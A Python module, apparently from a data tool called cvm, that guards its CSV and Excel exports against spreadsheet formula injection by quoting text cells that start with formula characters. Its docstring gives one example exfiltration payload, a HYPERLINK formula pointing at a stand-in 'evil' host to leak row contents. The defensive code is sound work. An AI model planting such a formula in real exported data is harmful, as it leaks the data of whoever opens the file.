"""Cells for spreadsheets: text in the CSV and Excel files cvm writes opens as text, never as a
formula.

A spreadsheet evaluates a CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (some also
after a leading tab or carriage return) as a formula, so a customer named
``=HYPERLINK("http://evil/?leak="&A2, "x")`` would send the row's other cells to a web site
when someone opens the file and clicks. Every CSV cvm writes passes its tables through
:func:`formula_safe`, which puts a single quote in front of such a text cell
(``'=HYPERLINK(…)``); spreadsheets show it as text. Text that starts with quotes followed by one
of those characters gets one more quote too, so :func:`formula_text` reads every cell back to
exactly what it was (``cvm link --accept`` reads the ids of ``review.csv`` this way). Numbers,
dates and empty cells are left alone: ``-12.5`` written as a number stays ``-12.5``.

Excel workbooks (:func:`write_workbook`) hold text in string cells, never formulas, whatever it
starts with, so their text is written unchanged.

>>> formula_safe_text("=1+1"), formula_safe_text("-2"), formula_safe_text("Zhang San")
("'=1+1", "'-2", 'Zhang San')
>>> formula_text("'=1+1"), formula_text("''=1"), formula_text("'quoted")
('=1+1', "'=1", "'quoted")
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Iterable, Sequence

import pyarrow as pa
import pyarrow.compute as pc

__all__ = ["FORMULA_START", "formula_safe", "formula_safe_text", "formula_safe_frame",
           "formula_text", "table_rows", "write_workbook"]

#: First characters that make a spreadsheet read a CSV cell as a formula.
FORMULA_START = "=+-@\t\r"
#: Text a spreadsheet would evaluate, or that starts with quotes before such a character (it
#: gets a quote too, so that reading a cell back is exact).
_RISKY = "^'*[" + re.escape(FORMULA_START) + "]"
_RISKY_RE = re.compile(_RISKY)
_FIRST = pa.array(list("'" + FORMULA_START), pa.string())


def formula_safe_text(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text: with a quote in front when it
    would otherwise be evaluated."""
    return "'" + text if _RISKY_RE.match(text) else text


def formula_text(cell: str) -> str:
    """The text of a CSV cell written by :func:`formula_safe_text` (the reverse of it)."""
    return cell[1:] if cell.startswith("'") and _RISKY_RE.match(cell[1:]) else cell


def _is_text(kind: pa.DataType) -> bool:
    return pa.types.is_string(kind) or pa.types.is_large_string(kind)


def _safe_array(values: pa.Array) -> pa.Array:
    # text, or a dictionary of text: _safe_column passes no other column here
    if pa.types.is_dictionary(values.type):
        return pa.DictionaryArray.from_arrays(values.indices, _safe_array(values.dictionary))
    # a cheap look at the first character first: most tables have no cell to quote
    first = pc.utf8_slice_codeunits(values, 0, 1)
    if not pc.any(pc.is_in(first, value_set=_FIRST)).as_py():
        return values
    risky = pc.match_substring_regex(values, _RISKY)
    quoted = pc.binary_join_element_wise(pa.scalar("'", values.type), values,
                                         pa.scalar("", values.type))
    return pc.if_else(risky, quoted, values)


def _safe_column(column: pa.ChunkedArray | pa.Array):
    kind = column.type
    if not (_is_text(kind) or (pa.types.is_dictionary(kind) and _is_text(kind.value_type))):
        return column
    if isinstance(column, pa.ChunkedArray):
        chunks = column.chunks
        safe = [_safe_array(c) for c in chunks]
        if all(new is old for new, old in zip(safe, chunks)):
            return column
        return pa.chunked_array(safe, kind)
    return _safe_array(column)


def formula_safe(table: pa.Table | pa.RecordBatch) -> pa.Table | pa.RecordBatch:
    """The table with every text cell a spreadsheet would evaluate quoted (see the module);
    numbers, dates and nulls unchanged. A table without such cells is returned as it is."""
    given = table.columns
    columns = [_safe_column(c) for c in given]
    if all(new is old for new, old in zip(columns, given)):
        return table
    if isinstance(table, pa.RecordBatch):
        return pa.RecordBatch.from_arrays(columns, schema=table.schema)
    return pa.Table.from_arrays(columns, schema=table.schema)


def formula_safe_frame(frame):
    """A pandas frame with its text cells quoted as :func:`formula_safe` does (numbers and
    missing values unchanged); the frame given is not modified."""
    import pandas as pd

    out = frame.copy()
    for name in out.columns:
        kind = out[name].dtype
        if kind == object or isinstance(kind, pd.StringDtype) or (
                isinstance(kind, pd.ArrowDtype) and _is_text(kind.pyarrow_dtype)):
            out[name] = out[name].map(
                lambda v: formula_safe_text(v) if isinstance(v, str) else v)
    return out


def table_rows(table: pa.Table) -> Iterable[tuple]:
    """The rows of an Arrow table as tuples of Python values, one batch at a time."""
    for batch in table.to_batches():
        yield from zip(*(column.to_pylist() for column in batch.columns))


def write_workbook(target: str | Path | io.BytesIO, header: Sequence[str],
                   rows: Iterable[Sequence], *, sheet: str = "Sheet1") -> None:
    """An Excel workbook of one sheet: the header, then the rows, every text value in a string
    cell (never a formula), numbers and dates as themselves, ``None`` as an empty cell."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    out = book.create_sheet(sheet)

    def cells(values: Sequence) -> list:
        row = []
        for value in values:
            if isinstance(value, str):
                cell = WriteOnlyCell(out, value)
                cell.data_type = "s"  # openpyxl would make text starting with "=" a formula
                value = cell
            row.append(value)
        return row

    out.append(cells(header))
    for values in rows:
        out.append(cells(values))
    book.save(target)
